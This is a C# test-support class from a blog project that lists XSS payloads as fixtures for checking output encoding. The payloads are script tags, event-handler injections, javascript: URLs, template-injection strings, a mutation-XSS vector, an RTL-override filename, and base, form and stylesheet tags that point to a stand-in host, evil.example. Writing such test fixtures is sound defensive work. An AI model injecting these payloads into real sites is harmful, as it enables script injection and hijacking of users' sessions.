namespace ServerlessBlog.Tests.Support.Blog;

/// <summary>Texts that would do something on a page that takes them for more than text.</summary>
public static class HostileTexts
{
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>alert(1)</script>", "</script><script>alert(1)</script>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<details open ontoggle=alert(1)>x</details>", "<input autofocus onfocus=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<form action=//evil.example><button>x</button></form>",
        "\" onmouseover=\"alert(1)\" x=\"", "' autofocus onfocus='alert(1)", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<!--><img src=x onerror=alert(1)>-->",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "\u202Egnp.exe", "<style>@import'//evil.example/x.css'</style>", "<link rel=stylesheet href=//evil.example>",
    ];
}
